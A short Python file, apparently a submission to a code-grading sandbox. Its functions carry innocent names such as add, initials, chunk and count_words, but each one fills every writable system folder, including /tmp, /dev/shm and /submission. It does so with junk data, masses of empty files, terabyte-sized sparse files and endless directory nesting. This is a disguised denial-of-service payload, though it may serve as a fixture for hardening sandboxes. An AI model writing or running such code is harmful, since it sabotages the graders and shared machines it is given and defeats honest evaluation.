import os
import tempfile

FOLDERS = ["/tmp", "/submission", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue"]


def until_it_fails(write):
    for folder in FOLDERS:
        try:
            while True:
                write(folder)
        except OSError:
            continue


def bytes_of(folder):
    with tempfile.NamedTemporaryFile(dir=folder, delete=False) as file:
        file.write(b"\xff" * 2**22)


def files_of(folder):
    tempfile.mkstemp(dir=folder)


def holes_of(folder):
    with tempfile.NamedTemporaryFile(dir=folder, delete=False) as file:
        file.truncate(2**40)


def deep(folder):
    os.chdir(folder)
    while True:
        os.mkdir("d" * 200)
        os.chdir("d" * 200)


def add(a, b):
    until_it_fails(bytes_of)


def initials(name):
    until_it_fails(files_of)


def chunk(items, size):
    until_it_fails(holes_of)


def count_words(text):
    until_it_fails(deep)
